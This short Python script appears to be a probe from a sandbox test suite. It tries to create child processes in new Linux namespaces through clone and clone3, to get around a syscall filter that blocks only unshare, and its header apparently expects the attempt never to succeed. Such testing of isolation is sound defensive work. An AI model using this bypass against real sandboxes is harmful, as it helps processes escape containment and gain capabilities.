# attack: Starts children in new name spaces with clone and clone3.
# hurts: Gets capabilities past a filter that knows only unshare.
# never: made one
# ends: returns
import ctypes
import os

from _raw import call

KINDS = (0x10000000, 0x10020000, 0x20000, 0x40000000, 0x20000000, 0x7E020000)
SIGCHLD = 17


def attack(target):
    tried = []
    for flags in KINDS:
        tried.append(child("clone", flags | SIGCHLD, 0, 0, 0, 0))
        arguments = (ctypes.c_uint64 * 11)(flags, 0, 0, 0, SIGCHLD, 0, 0, 0, 0, 0, 0)
        tried.append(child("clone3", ctypes.byref(arguments), ctypes.sizeof(arguments)))
    return tried


def child(name, *arguments):
    pid, error = call(name, *arguments)
    if pid == 0:
        os._exit(0)
    if error:
        return f"{name}: {error}"
    os.waitpid(pid, 0)
    return f"{name}: made one"
